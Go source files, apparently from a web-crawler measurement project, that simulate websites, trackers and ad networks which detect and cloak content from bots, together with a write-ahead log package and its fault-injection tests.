	case isThirdPartyDetectorHost(host):
		return w.serveThirdPartyDetector(req, host, path, topSite, cloaked)
	case contains(trackerHosts, host):
		return w.serveTracker(req, host, path, topSite, cloaked)
	case contains(adHosts, host):
		return w.serveAd(req, host, path, cloaked)
	case contains(cdnHosts, host):
		return w.serveCDN(path)
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

// cloakedFor decides whether this request is served the bot-tailored
// variant: the site context's detection level must reach the site's cloak
// threshold.
func (w *World) cloakedFor(req *httpsim.Request, topSite string) bool {
	if topSite == "" {
		return false
	}
	site := w.siteForTop(topSite)
	if site == nil || !site.Cloaks {
		return false
	}
	return w.flagLevel(req.ClientID, topSite) >= site.CloakThreshold
}

func (w *World) serveSite(req *httpsim.Request, rank int, path string, cloaked bool) (*httpsim.Response, error) {
	s := w.Site(rank)
	if !s.Cloaks {
		cloaked = false
	}
	// Availability counter-attacks against flagged crawlers (Sec. 5 attack
	// family extended to the framework's availability): crash-attack sites
	// kill the browser on their main script; tarpit sites slow every
	// response below.
	attack := w.Opts.AvailabilityAttacks && cloaked
	if attack && s.Availability == AttackCrash && path == "/app.js" {
		return nil, &faults.FaultError{Kind: faults.KindCrash, URL: req.URL}
	}
	resp, err := w.serveSitePage(req, s, path, cloaked)
	if attack && s.Availability == AttackTarpit && resp != nil {
		resp.DelaySeconds += TarpitAttackSeconds
	}
	return resp, err
}

// TarpitAttackSeconds is the per-response virtual delay a tarpit-attacking
// site imposes on flagged clients.
const TarpitAttackSeconds = 30

func (w *World) serveSitePage(req *httpsim.Request, s *Site, path string, cloaked bool) (*httpsim.Response, error) {
	h := map[string]string{"Content-Type": "text/html"}
	resp := &httpsim.Response{Status: 200, Headers: h}

	switch {
	case path == "/":
		w.beginVisit(req.ClientID, httpsim.ETLDPlusOne(httpsim.Host(req.URL)))
		if s.HasCSP {
			allowed := []string{"'self'"}
			for _, t := range s.ThirdPartyHosts {
				allowed = append(allowed, t)
			}
			allowed = append(allowed, trackerHosts...)
			allowed = append(allowed, HostCheqzone, HostGoogleSynd, HostGoogle, HostAdzouk)
			h["Content-Security-Policy"] = "script-src " + strings.Join(allowed, " ") + "; report-uri /csp-report"
		}
		resp.Body = pageHTML(s, w.Opts.Seed, -1, cloaked)
		resp.SetCookies = w.siteCookies(s, req, cloaked)
		return resp, nil

	case strings.HasPrefix(path, "/page/"):
		resp.Body = pageHTML(s, w.Opts.Seed, int(fnv(path)%7), cloaked)
		return resp, nil

	case path == "/app.js":
		return jsResp(appJS(s.Domain)), nil
	case path == "/analytics.js":
		return jsResp(analyticsJS(s.Domain)), nil
	case path == "/vendor.js":
		return jsResp(benignWebdriverJS), nil
	case path == "/fp.js":
		return jsResp(fingerprinterJS("https://www." + s.Domain + "/collect")), nil
	case path == "/style.css":
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/css"}, Body: "body { margin: 0 }"}, nil
	case path == "/csp-report":
		return &httpsim.Response{Status: 204, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	case path == "/__botflag":
		// first-party bot manager report
		w.flag(req.ClientID, httpsim.ETLDPlusOne(httpsim.Host(req.URL)), "first-party", req.Body)
		return &httpsim.Response{Status: 204, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	case strings.HasPrefix(path, "/beacon") || strings.HasPrefix(path, "/collect"):
		return &httpsim.Response{Status: 204, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	case strings.HasSuffix(path, ".png"):
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "image/png"}, Body: "PNG" + path}, nil
	case strings.HasSuffix(path, ".mp4"):
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "video/mp4"}, Body: "MP4"}, nil
	}
	// first-party detector script paths (provider-shaped URLs)
	if s.FirstParty != "" && path == firstPartyDetectorPath(s.FirstParty, fnv(w.Opts.Seed, s.Rank, "fppath")) {
		return jsResp(firstPartyDetectorJS(s.FirstParty)), nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

// siteCookies builds the front-page Set-Cookie list. Cloaked bots receive
// the functional cookies but not the identifying ones.
func (w *World) siteCookies(s *Site, req *httpsim.Request, cloaked bool) []httpsim.Cookie {
	out := []httpsim.Cookie{
		{Name: "sess", Value: fmt.Sprintf("s%08x", uint32(fnv(req.ClientID, s.Domain, req.Time))), Domain: s.Domain},
		{Name: "consent", Value: "granted-v2", Domain: s.Domain, Expires: 365 * 24 * 3600},
	}
	if s.HasFirstPartyID && !cloaked {
		out = append(out, httpsim.Cookie{
			Name:    "fpuid",
			Value:   clientUID(req.ClientID, s.Domain),
			Domain:  s.Domain,
			Expires: 180 * 24 * 3600,
		})
	}
	return out
}

// clientUID is the per-client, per-domain stable identifier trackers assign.
func clientUID(clientID, domain string) string {
	return fmt.Sprintf("%08x%08x%04x", uint32(fnv(clientID, domain)), uint32(fnv(domain, clientID, "x")), uint16(fnv(clientID)))
}

func isThirdPartyDetectorHost(host string) bool {
	for _, t := range thirdPartyHosts {
		if t.Host == host {
			return true
		}
	}
	return strings.HasPrefix(host, "adnet") && strings.HasSuffix(host, ".example")
}

func (w *World) serveThirdPartyDetector(req *httpsim.Request, host, path, topSite string, cloaked bool) (*httpsim.Response, error) {
	switch {
	case path == "/measure.js":
		// viewability measurement runs for every client — ad networks
		// measure bots especially
		return jsResp(viewabilityJS(host)), nil
	case path == "/tag.js":
		flagURL := "https://" + host + "/flag"
		site := w.siteForTop(topSite)
		src := plainDetectorJS(flagURL)
		if site != nil {
			switch site.Visibility {
			case VisStaticOnly:
				src = hoverDetectorJS(flagURL)
			case VisDynamicOnly:
				src = concatDetectorJS(flagURL)
			}
		}
		resp := jsResp(src)
		if !cloaked {
			resp.SetCookies = []httpsim.Cookie{{
				Name: "uid", Value: clientUID(req.ClientID, host), Domain: host,
				Expires: 180 * 24 * 3600,
			}}
		}
		return resp, nil
	case path == "/flag":
		// commercial networks re-identify across all their customer sites
		w.flag(req.ClientID, topSite, host, req.Body)
		return &httpsim.Response{Status: 204, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	case strings.HasPrefix(path, "/pixel.gif"):
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "image/gif"}, Body: "GIF"}, nil
	case strings.HasPrefix(path, "/sync"):
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "application/json"}, Body: `{"ok":true}`}, nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

// siteForTop resolves the Site behind a top-level eTLD+1, if it is one of
// the ranked sites.
func (w *World) siteForTop(topSite string) *Site {
	if rank := rankOf(topSite); rank >= 1 && rank <= w.Opts.NumSites {
		return w.Site(rank)
	}
	return nil
}

func (w *World) serveOpenWPMDetector(req *httpsim.Request, host, path, topSite string) (*httpsim.Response, error) {
	if path == "/flag" {
		w.flag(req.ClientID, topSite, host, req.Body)
		return &httpsim.Response{Status: 204, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	}
	site := w.siteForTop(topSite)
	marker := "jsInstruments"
	if site != nil && site.OpenWPMMarker != "" {
		marker = site.OpenWPMMarker
	}
	// cheqzone serves readable code (found by both methods); the others
	// obfuscate (dynamic-only, Sec. 4.2.1)
	obfuscated := host != HostCheqzone
	return jsResp(openwpmDetectorJS("https://"+host+"/flag", marker, obfuscated)), nil
}

func (w *World) serveTracker(req *httpsim.Request, host, path, topSite string, cloaked bool) (*httpsim.Response, error) {
	switch {
	case path == "/t.js":
		resp := jsResp(trackerTagJS(host))
		// functional cookies are served to everyone; only the identifying
		// uid is withheld from detected bots (Table 10's tracking-cookie
		// gap, while first/third-party totals move only a few percent)
		resp.SetCookies = []httpsim.Cookie{
			{Name: "opt", Value: "none-v3", Domain: host, Expires: 365 * 24 * 3600},
			{Name: "tsid", Value: fmt.Sprintf("t%08x", uint32(fnv(req.ClientID, host, req.Time))), Domain: host},
		}
		if !cloaked {
			resp.SetCookies = append(resp.SetCookies, httpsim.Cookie{
				Name: "uid", Value: clientUID(req.ClientID, host), Domain: host,
				Expires: 180 * 24 * 3600,
			})
		}
		return resp, nil
	case strings.HasPrefix(path, "/pixel.gif"):
		resp := &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "image/gif"}, Body: "GIF"}
		if !cloaked {
			resp.SetCookies = []httpsim.Cookie{{
				Name: "pxid", Value: clientUID(req.ClientID, host+"/px"), Domain: host,
				Expires: 365 * 24 * 3600,
			}}
		}
		return resp, nil
	case strings.HasPrefix(path, "/sync"):
		if cloaked {
			// bots get an empty sync: no partners, no follow-up beacon
			return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "application/json"}, Body: `{}`}, nil
		}
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "application/json"},
			Body: `{"partners":["a","b"]}`}, nil
	case strings.HasPrefix(path, "/audience"):
		return &httpsim.Response{Status: 204, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

func (w *World) serveAd(req *httpsim.Request, host, path string, cloaked bool) (*httpsim.Response, error) {
	if strings.HasPrefix(path, "/frame") {
		if cloaked {
			// bots get an empty ad slot
			return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"}, Body: "<html></html>"}, nil
		}
		body := fmt.Sprintf(`<html><img src="https://%s/ads/unit%s.png"><script src="https://%s/bid.js"></script></html>`, host, path, host)
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"}, Body: body}, nil
	}
	if strings.HasSuffix(path, ".png") {
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "image/png"}, Body: "AD"}, nil
	}
	if path == "/bid.js" {
		return jsResp(fmt.Sprintf(`fetch("https://%s/auction?q=1").then(function (r) { return r.text(); });`, host)), nil
	}
	if strings.HasPrefix(path, "/auction") {
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "application/json"}, Body: `{"bid":1}`}, nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

func (w *World) serveCDN(path string) (*httpsim.Response, error) {
	if strings.HasSuffix(path, ".woff2") {
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "font/woff2"}, Body: "WOFF2"}, nil
	}
	return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "application/octet-stream"}, Body: "DATA"}, nil
}

func jsResp(body string) *httpsim.Response {
	return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"}, Body: body}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}
