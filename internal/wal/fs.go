// Package wal implements the durable storage backend: an append-only,
// segmented write-ahead log of canonical-JSON records with per-record
// length+checksum framing, a configurable flush/fsync policy, seeded disk
// fault injection under an io-level shim, and a recovery path that truncates
// a torn tail and replays the intact prefix back into crawl state.
//
// The invariants the log maintains:
//
//   - Committed records are never rewritten: segments only grow (or are
//     truncated back to a record boundary after a failed write), so a crash
//     can only damage the tail, never the committed prefix.
//   - Every record is independently verifiable: a frame carries its payload
//     length and CRC-32C, so recovery can find the longest intact prefix of
//     any byte stream without trusting anything after the damage point.
//   - Checkpoint records are the durability boundary: everything before the
//     last checkpoint marker is committed state, everything after it belongs
//     to an in-flight site and is discarded on recovery (the site is simply
//     re-crawled, which determinism makes byte-identical).
package wal

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"
)

// File is the writable handle the log appends to.
type File interface {
	Write(p []byte) (int, error)
	Sync() error
	Close() error
}

// FS is the small filesystem surface the log needs. DirFS backs it with a
// real directory; MemFS keeps it in memory with fsync-aware crash
// simulation for tests.
type FS interface {
	// Create opens name for writing, truncating any existing content.
	Create(name string) (File, error)
	// ReadFile returns name's full content.
	ReadFile(name string) ([]byte, error)
	// List returns all file names, sorted.
	List() ([]string, error)
	// Truncate cuts name to size bytes.
	Truncate(name string, size int64) error
	// Remove deletes name.
	Remove(name string) error
}

// Reset removes every file in fs, returning the log to the empty state a
// fresh Open expects. Recovery uses it on a log so damaged that not even the
// shard-metadata record survived (ErrNoShardMeta): nothing in it is
// trustworthy, and the restarted shard must begin a clean log rather than
// append after garbage a later scan would choke on.
func Reset(fs FS) error {
	names, err := fs.List()
	if err != nil {
		return err
	}
	for _, n := range names {
		if err := fs.Remove(n); err != nil {
			return err
		}
	}
	return nil
}

// DirFS is an FS rooted at a real directory (created on first write).
type DirFS struct{ Dir string }

func (d DirFS) Create(name string) (File, error) {
	if err := os.MkdirAll(d.Dir, 0o755); err != nil {
		return nil, err
	}
	return os.Create(filepath.Join(d.Dir, name))
}

func (d DirFS) ReadFile(name string) ([]byte, error) {
	return os.ReadFile(filepath.Join(d.Dir, name))
}

func (d DirFS) List() ([]string, error) {
	ents, err := os.ReadDir(d.Dir)
	if os.IsNotExist(err) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	var names []string
	for _, e := range ents {
		if !e.IsDir() {
			names = append(names, e.Name())
		}
	}
	sort.Strings(names)
	return names, nil
}

func (d DirFS) Truncate(name string, size int64) error {
	return os.Truncate(filepath.Join(d.Dir, name), size)
}

func (d DirFS) Remove(name string) error {
	return os.Remove(filepath.Join(d.Dir, name))
}

// MemFS is an in-memory FS that tracks, per file, how many bytes have been
// fsynced. Crash() models power loss: every file is truncated back to its
// last synced offset, so tests can prove exactly what each fsync policy
// guarantees. A plain process kill (buffered user-space data lost, OS-level
// writes kept) is modelled by simply abandoning the Writer without Close.
type MemFS struct {
	mu    sync.Mutex
	files map[string]*memFile
}

// NewMemFS returns an empty in-memory filesystem.
func NewMemFS() *MemFS { return &MemFS{files: map[string]*memFile{}} }

type memFile struct {
	fs     *MemFS
	name   string
	data   []byte
	synced int
}

func (m *MemFS) Create(name string) (File, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	f := &memFile{fs: m, name: name}
	m.files[name] = f
	return f, nil
}

func (m *MemFS) ReadFile(name string) ([]byte, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	f, ok := m.files[name]
	if !ok {
		return nil, fmt.Errorf("wal: memfs: %s does not exist", name)
	}
	return append([]byte(nil), f.data...), nil
}

func (m *MemFS) List() ([]string, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	names := make([]string, 0, len(m.files))
	for n := range m.files {
		names = append(names, n)
	}
	sort.Strings(names)
	return names, nil
}

func (m *MemFS) Truncate(name string, size int64) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	f, ok := m.files[name]
	if !ok {
		return fmt.Errorf("wal: memfs: truncate %s: no such file", name)
	}
	if int(size) < len(f.data) {
		f.data = f.data[:size]
	}
	if f.synced > len(f.data) {
		f.synced = len(f.data)
	}
	return nil
}

func (m *MemFS) Remove(name string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if _, ok := m.files[name]; !ok {
		return fmt.Errorf("wal: memfs: remove %s: no such file", name)
	}
	delete(m.files, name)
	return nil
}

// Crash simulates power loss: unsynced bytes vanish from every file.
func (m *MemFS) Crash() {
	m.mu.Lock()
	defer m.mu.Unlock()
	for _, f := range m.files {
		f.data = f.data[:f.synced]
	}
}

// Size returns the current size of name (testing helper; 0 when absent).
func (m *MemFS) Size(name string) int64 {
	m.mu.Lock()
	defer m.mu.Unlock()
	if f, ok := m.files[name]; ok {
		return int64(len(f.data))
	}
	return 0
}

func (f *memFile) Write(p []byte) (int, error) {
	f.fs.mu.Lock()
	defer f.fs.mu.Unlock()
	f.data = append(f.data, p...)
	return len(p), nil
}

func (f *memFile) Sync() error {
	f.fs.mu.Lock()
	defer f.fs.mu.Unlock()
	f.synced = len(f.data)
	return nil
}

func (f *memFile) Close() error { return nil }
