package wal

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"

	"gullible/internal/faults"
	"gullible/internal/telemetry"
)

// Segment framing. A segment starts with an 8-byte header (magic + format
// version); each record is [len uint32][crc32c uint32][payload], both fields
// little-endian, the checksum over the payload only. The payload is the
// canonical JSON of an envelope {"k": kind, "d": data}.
const (
	segMagic   = "GWAL"
	segVersion = 1
	headerSize = 8
	frameSize  = 8 // per-record framing overhead
)

// castagnoli is the CRC-32C table (the checksum modern filesystems use).
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// SegName is the canonical segment file name for index i; lexical order is
// log order.
func SegName(i int) string { return fmt.Sprintf("wal-%06d.seg", i) }

func segHeader() []byte {
	h := make([]byte, headerSize)
	copy(h, segMagic)
	h[4] = segVersion
	return h
}

// SyncPolicy selects when the writer calls fsync.
type SyncPolicy int

const (
	// SyncCheckpoint (the default) fsyncs at durable boundaries: checkpoint
	// records, segment rotation and Close. A power loss costs at most the
	// in-flight site.
	SyncCheckpoint SyncPolicy = iota
	// SyncOff never fsyncs; buffered data still reaches the OS at flush
	// boundaries, so a process kill loses at most the current buffer, but a
	// power loss can lose everything since the last rotation.
	SyncOff
	// SyncAlways fsyncs after every record — maximum durability, maximum
	// cost (BENCH_wal.json tracks the gap).
	SyncAlways
)

func (p SyncPolicy) String() string {
	switch p {
	case SyncCheckpoint:
		return "checkpoint"
	case SyncOff:
		return "off"
	case SyncAlways:
		return "always"
	}
	return fmt.Sprintf("sync(%d)", int(p))
}

// ParseSyncPolicy parses a -fsync flag value.
func ParseSyncPolicy(s string) (SyncPolicy, error) {
	switch s {
	case "checkpoint", "":
		return SyncCheckpoint, nil
	case "off":
		return SyncOff, nil
	case "always":
		return SyncAlways, nil
	}
	return 0, fmt.Errorf("wal: unknown fsync policy %q (want off, checkpoint or always)", s)
}

// Options configures a Writer.
type Options struct {
	// SegmentBytes rotates to a fresh segment once the current one reaches
	// this size (default 1 MiB).
	SegmentBytes int64
	// Sync is the fsync policy (default SyncCheckpoint).
	Sync SyncPolicy
	// FlushBytes bounds how much pending data accumulates before an
	// implicit flush (default 64 KiB).
	FlushBytes int
	// Disk, when non-nil, injects disk faults under the writer through an
	// io-level shim: every write and sync consults the injector first.
	Disk *faults.DiskInjector
	// Telemetry, when non-nil, meters flushes, fsyncs, rotations, write
	// errors and lost records.
	Telemetry *telemetry.Telemetry
}

func (o Options) segmentBytes() int64 {
	if o.SegmentBytes <= 0 {
		return 1 << 20
	}
	return o.SegmentBytes
}

// flushChunk bounds how much pending data accumulates before an implicit
// flush even under SyncOff/SyncCheckpoint.
const flushChunk = 64 << 10

func (o Options) flushBytes() int {
	if o.FlushBytes <= 0 {
		return flushChunk
	}
	return o.FlushBytes
}

// WriterStats is the writer's durability accounting.
type WriterStats struct {
	Appended    int // records accepted by Append
	Committed   int // records whose bytes reached the file
	Lost        int // records lost to write failures (counted, never silent)
	Segments    int // segments opened
	Flushes     int
	Syncs       int
	SyncErrors  int
	WriteErrors int
}

// Writer appends framed records to a segmented log. It is single-goroutine,
// like the per-shard storage it backs.
//
// Failure semantics: a failed or short write loses the buffered records
// (counted in Stats().Lost and telemetry), the damaged segment is truncated
// back to its last committed record boundary, and the writer rotates to a
// fresh segment before accepting more appends — committed bytes are never
// touched, and the handle that saw the failure is never written again. A
// failed fsync is counted and reported but does not unwrite anything:
// durability degrades, the data stays.
type Writer struct {
	fs   FS
	opts Options

	file     File
	segName  string
	segIndex int
	segSize  int64 // committed bytes in the current segment
	segBad   bool  // rotate before the next append

	pending     []byte
	pendingRecs int
	broken      error

	stats WriterStats

	mFlush, mSync, mSyncErr, mWriteErr, mLost, mSeg *telemetry.Counter
}

type envelope struct {
	K string          `json:"k"`
	D json.RawMessage `json:"d,omitempty"`
}

// NewWriter opens a fresh log in fs starting at segment 0.
func NewWriter(fs FS, opts Options) (*Writer, error) {
	return newWriterAt(fs, opts, 0)
}

// newWriterAt opens a log continuing at segment index start (recovery).
func newWriterAt(fs FS, opts Options, start int) (*Writer, error) {
	w := &Writer{fs: fs, opts: opts, segIndex: start - 1}
	tel := opts.Telemetry
	w.mFlush = tel.Counter("wal_flushes_total")
	w.mSync = tel.Counter("wal_fsyncs_total")
	w.mSyncErr = tel.Counter("wal_fsync_errors_total")
	w.mWriteErr = tel.Counter("wal_write_errors_total")
	w.mLost = tel.Counter("wal_records_lost_total")
	w.mSeg = tel.Counter("wal_segments_total")
	if err := w.rotate(); err != nil {
		return nil, err
	}
	return w, nil
}

// rotate closes the current segment and opens the next one. The new
// segment's header rides in the pending buffer so header writes share the
// commit path (and its fault handling) with records.
func (w *Writer) rotate() error {
	if w.file != nil {
		if err := w.commit(w.opts.Sync != SyncOff); err != nil {
			// the failed flush already truncated and marked the segment;
			// fall through and open the next one regardless
			_ = err
		}
		if err := w.file.Close(); err != nil {
			w.stats.WriteErrors++
			w.mWriteErr.Inc()
		}
	}
	w.segIndex++
	w.segName = SegName(w.segIndex)
	f, err := w.fs.Create(w.segName)
	if err != nil {
		w.broken = fmt.Errorf("wal: open segment %s: %w", w.segName, err)
		return w.broken
	}
	w.file = f
	w.segSize = 0
	w.segBad = false
	w.stats.Segments++
	w.mSeg.Inc()
	w.pending = append(segHeader(), w.pending...)
	return nil
}

// Append marshals v into a framed record of the given kind and buffers it.
// Under SyncAlways the record is committed (flushed and fsynced) before
// Append returns; otherwise it is committed by the next flush boundary.
func (w *Writer) Append(kind string, v any) error {
	if w.broken != nil {
		return w.broken
	}
	data, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("wal: marshal %s record: %w", kind, err)
	}
	payload, err := json.Marshal(envelope{K: kind, D: data})
	if err != nil {
		return fmt.Errorf("wal: marshal %s envelope: %w", kind, err)
	}
	// cur counts the segment's committed and pending bytes; a fresh segment
	// holds only its pending header, and a segment with at least one record
	// rotates rather than exceed the size target
	cur := w.segSize + int64(len(w.pending))
	if w.segBad || (cur > headerSize && cur+int64(len(payload))+frameSize > w.opts.segmentBytes()) {
		if err := w.rotate(); err != nil {
			return err
		}
	}
	var frame [frameSize]byte
	binary.LittleEndian.PutUint32(frame[0:4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(frame[4:8], crc32.Checksum(payload, castagnoli))
	w.pending = append(w.pending, frame[:]...)
	w.pending = append(w.pending, payload...)
	w.pendingRecs++
	w.stats.Appended++
	if w.opts.Sync == SyncAlways {
		return w.Commit()
	}
	if len(w.pending) >= w.opts.flushBytes() {
		return w.Flush()
	}
	return nil
}

// Flush pushes buffered records down to the file (no fsync).
func (w *Writer) Flush() error {
	if w.broken != nil {
		return w.broken
	}
	return w.flush()
}

func (w *Writer) flush() error {
	if len(w.pending) == 0 {
		return nil
	}
	w.stats.Flushes++
	w.mFlush.Inc()
	p := w.pending
	recs := w.pendingRecs
	w.pending = nil
	w.pendingRecs = 0

	n := len(p)
	wrote := 0
	var err error
	if d := w.opts.Disk; d != nil {
		allow, ferr := d.BeforeWrite(w.segName, n)
		if ferr != nil {
			// a short/torn write lands only a prefix, possibly mid-frame
			if allow > 0 {
				wrote, _ = w.file.Write(p[:allow])
			}
			err = ferr
		} else {
			wrote, err = w.file.Write(p)
		}
	} else {
		wrote, err = w.file.Write(p)
	}
	if err == nil && wrote < n {
		err = fmt.Errorf("wal: short write to %s: %d of %d bytes", w.segName, wrote, n)
	}
	if err != nil {
		// the buffered records are gone — count them loudly, cut the torn
		// tail back to the last committed boundary, and retire the segment
		w.stats.WriteErrors++
		w.mWriteErr.Inc()
		w.stats.Lost += recs
		w.mLost.Add(int64(recs))
		w.segBad = true
		if terr := w.fs.Truncate(w.segName, w.segSize); terr != nil {
			// the torn tail stays on disk; recovery's checksum scan will
			// cut it instead
			return fmt.Errorf("wal: write failed (%v) and truncate failed: %w", err, terr)
		}
		return err
	}
	w.segSize += int64(n)
	w.stats.Committed += recs
	return nil
}

// Sync fsyncs the current segment (after flushing). A failed fsync is
// counted and returned but unwrites nothing: the data is in the file,
// durability is merely no longer guaranteed.
func (w *Writer) Sync() error {
	if err := w.Flush(); err != nil {
		return err
	}
	w.stats.Syncs++
	w.mSync.Inc()
	if d := w.opts.Disk; d != nil {
		if err := d.OnSync(w.segName); err != nil {
			w.stats.SyncErrors++
			w.mSyncErr.Inc()
			return err
		}
	}
	if err := w.file.Sync(); err != nil {
		w.stats.SyncErrors++
		w.mSyncErr.Inc()
		return err
	}
	return nil
}

// Commit makes buffered records durable per the sync policy: always a
// flush, plus an fsync unless the policy is SyncOff.
func (w *Writer) Commit() error {
	return w.commit(w.opts.Sync != SyncOff)
}

func (w *Writer) commit(sync bool) error {
	if sync {
		return w.Sync()
	}
	return w.Flush()
}

// Close commits and closes the log.
func (w *Writer) Close() error {
	if w.file == nil {
		return nil
	}
	cerr := w.commit(w.opts.Sync != SyncOff)
	if err := w.file.Close(); err != nil && cerr == nil {
		cerr = err
	}
	w.file = nil
	return cerr
}

// Stats returns the writer's durability accounting.
func (w *Writer) Stats() WriterStats { return w.stats }

// SegIndex is the index of the segment currently being written.
func (w *Writer) SegIndex() int { return w.segIndex }
