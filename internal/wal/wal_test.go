package wal

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"gullible/internal/faults"
)

type testRec struct {
	N int    `json:"n"`
	S string `json:"s,omitempty"`
}

func appendN(t *testing.T, w *Writer, n int) {
	t.Helper()
	for i := 0; i < n; i++ {
		if err := w.Append("test", testRec{N: i, S: strings.Repeat("x", i%17)}); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
}

func scanKinds(t *testing.T, fs FS) []Rec {
	t.Helper()
	recs, _, err := Scan(fs)
	if err != nil {
		t.Fatalf("scan: %v", err)
	}
	return recs
}

func TestRoundTrip(t *testing.T) {
	fs := NewMemFS()
	w, err := NewWriter(fs, Options{})
	if err != nil {
		t.Fatal(err)
	}
	appendN(t, w, 100)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	recs, stats, err := Scan(fs)
	if err != nil {
		t.Fatal(err)
	}
	if stats.Torn() {
		t.Fatalf("clean log reports damage: %s", stats)
	}
	if len(recs) != 100 {
		t.Fatalf("recovered %d records, want 100", len(recs))
	}
	for i, r := range recs {
		if r.Kind != "test" {
			t.Fatalf("record %d has kind %q", i, r.Kind)
		}
		if want := fmt.Sprintf(`"n":%d`, i); !strings.Contains(string(r.Data), want) {
			t.Fatalf("record %d payload %s lacks %s (order not preserved?)", i, r.Data, want)
		}
	}
}

func TestRotationPreservesOrder(t *testing.T) {
	fs := NewMemFS()
	w, err := NewWriter(fs, Options{SegmentBytes: 256})
	if err != nil {
		t.Fatal(err)
	}
	appendN(t, w, 200)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if w.Stats().Segments < 2 {
		t.Fatalf("tiny segments produced only %d segment(s)", w.Stats().Segments)
	}
	recs := scanKinds(t, fs)
	if len(recs) != 200 {
		t.Fatalf("recovered %d records across segments, want 200", len(recs))
	}
	for i, r := range recs {
		if want := fmt.Sprintf(`"n":%d`, i); !strings.Contains(string(r.Data), want) {
			t.Fatalf("record %d out of order after rotation", i)
		}
	}
}

// TestSyncPolicies drives each fsync policy through a power loss (MemFS
// Crash truncates every file to its synced offset) and checks the guarantee
// each policy documents.
func TestSyncPolicies(t *testing.T) {
	t.Run("always survives power loss", func(t *testing.T) {
		fs := NewMemFS()
		w, err := NewWriter(fs, Options{Sync: SyncAlways})
		if err != nil {
			t.Fatal(err)
		}
		appendN(t, w, 50)
		fs.Crash() // no Close: power dies mid-run
		if got := len(scanKinds(t, fs)); got != 50 {
			t.Fatalf("SyncAlways lost records to power loss: %d/50 survive", got)
		}
	})
	t.Run("off loses unsynced data but stays consistent", func(t *testing.T) {
		fs := NewMemFS()
		w, err := NewWriter(fs, Options{Sync: SyncOff})
		if err != nil {
			t.Fatal(err)
		}
		appendN(t, w, 50)
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		fs.Crash()
		recs, stats, err := Scan(fs)
		if err != nil {
			t.Fatal(err)
		}
		if stats.Torn() {
			t.Fatalf("power loss at a flush boundary must not tear the log: %s", stats)
		}
		if len(recs) > 50 {
			t.Fatalf("recovered %d records from 50 appends", len(recs))
		}
	})
	t.Run("process kill without close keeps flushed data", func(t *testing.T) {
		fs := NewMemFS()
		w, err := NewWriter(fs, Options{Sync: SyncCheckpoint})
		if err != nil {
			t.Fatal(err)
		}
		appendN(t, w, 50)
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		// abandon w: a killed process loses its user-space buffer only
		if got := len(scanKinds(t, fs)); got != 50 {
			t.Fatalf("flushed records did not survive process kill: %d/50", got)
		}
	})
}

func TestParseSyncPolicy(t *testing.T) {
	for in, want := range map[string]SyncPolicy{
		"": SyncCheckpoint, "checkpoint": SyncCheckpoint, "off": SyncOff, "always": SyncAlways,
	} {
		got, err := ParseSyncPolicy(in)
		if err != nil || got != want {
			t.Fatalf("ParseSyncPolicy(%q) = %v, %v", in, got, err)
		}
	}
	if _, err := ParseSyncPolicy("sometimes"); err == nil {
		t.Fatal("unknown policy must be rejected")
	}
}

// TestShortWriteNeverCorruptsCommitted injects torn writes and requires that
// every record the writer reports as committed is recoverable, that losses
// are counted, and that committed + lost == appended (no silent loss).
func TestShortWriteNeverCorruptsCommitted(t *testing.T) {
	inj := faults.NewDiskInjector(7, faults.DiskProfile{ShortWritePerMille: 300})
	fs := NewMemFS()
	w, err := NewWriter(fs, Options{Sync: SyncAlways, Disk: inj, SegmentBytes: 512})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 200; i++ {
		_ = w.Append("test", testRec{N: i}) // errors expected: faults are on
	}
	_ = w.Close()
	st := w.Stats()
	if st.Lost == 0 || st.WriteErrors == 0 {
		t.Fatalf("fault profile injected nothing (stats %+v) — seed drift?", st)
	}
